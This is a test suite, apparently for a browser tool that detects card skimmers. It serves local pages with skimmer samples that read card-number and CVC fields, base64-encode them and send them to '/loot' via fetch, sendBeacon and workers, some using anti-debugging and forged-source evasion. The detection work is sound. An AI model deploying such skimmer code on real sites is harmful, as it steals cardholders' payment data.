import type { Journey, ScriptAct } from '@komainu/model';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { openBrowser, type ProbeBrowser } from '../src/index.ts';
import { pageOf, run } from './support/run.ts';
import { type Site, startSite } from './support/site.ts';

/** A shop, a provider whose fields it frames, and skimmers in every place where one can read. */
let browser: ProbeBrowser;
let shop: Site;
let pay: Site;

const at = (name: string, site: Site, path: string): string => `http://${name}.localhost:${site.port}${path}`;
const FIELD = '<label>カード番号 <input id="n" name="card" autocomplete="cc-number"></label>';

async function visit(html: string, more: Record<string, string> = {}, steps?: Journey['steps']) {
  shop.pages = { '/pay': `<!doctype html><meta charset="utf-8"><body>${html}`, '/loot': '', ...more };
  const url = at('shop', shop, '/pay');
  const journey = steps && { title: 'x', steps: [{ type: 'navigate' as const, url }, ...steps] };
  const seen = await run(browser, pageOf(url), journey ?? null, { privateNetwork: true });
  const artifact = seen.recording.artifacts.acts;
  if (artifact?.kind !== 'observed') throw new Error('no acts');
  return { ...seen, acts: artifact.value, gaps: artifact.gaps };
}
const told = (acts: readonly ScriptAct[], api: string, by?: string): readonly ScriptAct[] =>
  acts.filter((act) => act.api === api && (by === undefined || act.stack.some((f) => f.function === by)));
const withoutAddresses = (acts: readonly ScriptAct[]): string =>
  JSON.stringify(acts.map((act) => ({ ...act, detail: null })));

beforeAll(async () => {
  browser = await openBrowser();
  shop = await startSite('127.0.0.1');
  pay = await startSite('127.0.0.1');
});
afterAll(async () => {
  await browser.close();
  await Promise.all([shop.close(), pay.close()]);
});

test('who reads, who listens, what is encoded and where it goes; never the value', async () => {
  const seen = await visit(
    `<form action="/order">${FIELD}<label>セキュリティコード <input id="c" name="cvc"></label></form><script src="/skim.js"></script>`,
    {
      '/skim.js': `document.querySelector('#n').addEventListener('blur', function taken(e) {
  const all = document.querySelector('#n').value + '|' + document.querySelector('#c').value;
  fetch('/loot', { method: 'POST', body: JSON.stringify({ data: btoa(all) }) });
});`,
    },
  );
  const place = { url: at('shop', shop, '/skim.js'), function: 'taken' };
  const [read] = told(seen.acts, 'HTMLInputElement.value', 'taken');
  expect(read).toMatchObject({
    act: 'read',
    target: 'page',
    fields: ['number'],
    frameUrl: at('shop', shop, '/pay'),
  });
  expect(read?.stack[0]).toMatchObject({ ...place, line: 1 });
  expect(told(seen.acts, 'btoa')).toMatchObject([{ act: 'encode', fields: ['number'] }]);
  expect(told(seen.acts, 'fetch')).toMatchObject([{ act: 'send', fields: ['number'], detail: '/loot' }]);
  const listens = seen.acts.filter((act) => act.act === 'listen');
  expect(listens).toMatchObject([
    { detail: 'blur', fields: ['number'], stack: [{ url: place.url, line: 0 }] },
  ]);
  expect(withoutAddresses(seen.acts)).not.toContain(seen.canary.card.number.slice(0, 8));
  expect(seen.gaps).toEqual([]);
  // Nothing of the probe's own is taken for the page's.
  expect(new Set(seen.scripts.map((script) => script.url))).toEqual(new Set([place.url]));
});

test('the provider’s frame in another process, and what it hands to the shop', async () => {
  pay.pages = {
    '/fields': `<!doctype html><meta charset="utf-8">${FIELD}<script>
document.querySelector('#n').addEventListener('change', function provider(e) { parent.postMessage({ token: { card: e.target.value } }, '*') })</script>`,
  };
  const seen = await visit(
    `<iframe src="${at('pay', pay, '/fields')}" width="400" height="80"></iframe><script>
addEventListener('message', function thief(e) { localStorage.setItem('stash', e.data.token.card); navigator.sendBeacon('/loot', btoa(e.data.token.card)) })</script>`,
  );
  expect(told(seen.acts, 'HTMLInputElement.value', 'provider')).toMatchObject([
    { target: 'frame', frameUrl: at('pay', pay, '/fields'), fields: ['number'] },
  ]);
  expect(told(seen.acts, 'Window.postMessage', 'provider')).toMatchObject([
    { act: 'pass', fields: ['number'] },
  ]);
  expect(told(seen.acts, 'Storage.setItem', 'thief')).toMatchObject([
    { act: 'store', detail: 'stash', target: 'page' },
  ]);
  expect(told(seen.acts, 'Navigator.sendBeacon', 'thief')).toMatchObject([{ act: 'send', detail: '/loot' }]);
  expect(seen.gaps).toEqual([]);
});

test('natives taken from fresh realms: a frame that stays, one with markup, one that is gone', async () => {
  const seen = await visit(
    `${FIELD}<script>
const get = (w) => w.Object.getOwnPropertyDescriptor(w.HTMLInputElement.prototype, 'value').get, field = document.querySelector('#n');
const kept = document.body.appendChild(document.createElement('iframe')), gone = document.body.appendChild(document.createElement('iframe'));
const [fromKept, fromGone] = [get(kept.contentWindow), get(gone.contentWindow)]; gone.remove();
field.addEventListener('change', () => {
  (function stays() { fromKept.call(field) })(); (function detached() { fromGone.call(field) })();
  const inner = document.createElement('iframe'); inner.srcdoc = '<script>(function markup() { parent.document.querySelector("#n").value })()</' + 'script>'; document.body.append(inner);
});</script>`,
  );
  for (const name of ['stays', 'detached', 'markup'])
    expect([name, told(seen.acts, 'HTMLInputElement.value', name).map((act) => act.fields)]).toEqual([
      name,
      [['number']],
    ]);
  expect(seen.gaps).toEqual([]);
});

test('dedicated, shared and service workers, from before and from after the typing', async () => {
  const work = (name: string): string => `function ${name}(card) { fetch('/loot?${name}=' + card) }`;
  const seen = await visit(
    `${FIELD}<script>
const early = new Worker('/early.js'), shared = new SharedWorker('/shared.js');
navigator.serviceWorker.register('/sw.js').then(() => navigator.serviceWorker.ready).then((r) => { window.service = r.active; document.title = 'ready' });
document.querySelector('#n').addEventListener('change', (e) => {
  const card = e.target.value; early.postMessage(card); shared.port.postMessage(card); service.postMessage(card);
  new Worker('/late.js').postMessage(card); document.title = 'done';
});</script>`,
    {
      '/early.js': `${work('early')} onmessage = (e) => early(e.data)`,
      '/late.js': `${work('late')} onmessage = (e) => late(e.data)`,
      '/shared.js': `${work('shared')} onconnect = (e) => { e.ports[0].onmessage = (m) => shared(m.data) }`,
      '/sw.js': `${work('service')} onmessage = (e) => service(e.data); onactivate = (e) => e.waitUntil(clients.claim())`,
    },
    [
      { type: 'waitForExpression', expression: 'document.title === "ready"' },
      { type: 'change', selectors: [['#n']], value: '{{canary.number}}' },
      { type: 'keyDown', key: 'Tab' },
      { type: 'waitForExpression', expression: 'document.title === "done"' },
    ],
  );
  const senders = told(seen.acts, 'fetch').map((act) => [act.stack[0]?.function, act.target]);
  expect(new Map(senders as [string, string][])).toEqual(
    new Map([
      ['early', 'worker'],
      ['late', 'worker'],
      ['shared', 'shared-worker'],
      ['service', 'service-worker'],
    ]),
  );
  expect(seen.gaps).toEqual([]);
});

test('a page that fights back: debugger without end, Error frozen, natives replaced, a forged name', async () => {
  const seen = await visit(
    `${FIELD}<script>
setInterval(() => { debugger; (0, eval)('debugger'); new Function('debugger')() }, 5);
const field = document.querySelector('#n'), value = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value').get;
const noisy = () => { window.noticed = true };
for (const [owner, name] of [[WeakMap.prototype, 'get'], [Reflect, 'apply'], [String.prototype, 'indexOf'], [Map.prototype, 'get'], [Function.prototype, 'call']]) { const real = owner[name]; owner[name] = function (...a) { noisy(); return Reflect.construct === 0 || real.apply(this, a) } }
window.noticed = false;
Object.defineProperty(Array.prototype, '0', { configurable: true, set: noisy, get: noisy });
field.addEventListener('input', () => { const read = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, 'value'); void field.value; });
field.addEventListener('change', () => { const loud = window.noticed; delete Array.prototype[0]; Object.freeze(Error);
  (0, eval)('(function forged() { const v = field.value; navigator.sendBeacon("/loot", v) })()\\n//# sourceURL=${at('shop', shop, '/approved.js')}'); navigator.sendBeacon('/noticed?' + loud) });</script>`,
  );
  expect(seen.recording.failure).toBeNull();
  expect(shop.received.map((item) => item.url)).toContain('/noticed?false');
  const [read] = told(seen.acts, 'HTMLInputElement.value', 'forged');
  expect(read?.fields).toEqual(['number']);
  // Evaluated text has no address of its own; who made it follows.
  expect(read?.stack[0]?.url).toBe('');
  expect(read?.stack.some((frame) => frame.url === at('shop', shop, '/pay'))).toBe(true);
  expect(told(seen.acts, 'Navigator.sendBeacon', 'forged')).toHaveLength(1);
});

test('what is called too often is told of as not wholly seen', async () => {
  const seen = await visit(
    `${FIELD}<script>document.querySelector('#n').addEventListener('change', function hot(e) { for (let i = 0; i < 3000; i++) document.createElement('input').value; })</script>`,
  );
  expect(seen.gaps).toMatchObject([{ code: 'limit' }]);
  expect(seen.gaps[0]?.message.en).toContain('HTMLInputElement.value');
});

test('an honest page without scripts has no acts; a proof is not attributed', async () => {
  const seen = await visit(`<form action="/order">${FIELD}</form>`);
  expect(seen.acts).toEqual([]);
  expect(seen.gaps).toEqual([]);
  const proof = await run(browser, pageOf(at('shop', shop, '/pay')), null, {
    privateNetwork: true,
    purpose: 'proof',
  });
  expect(proof.recording.artifacts.acts).toBeUndefined();
});
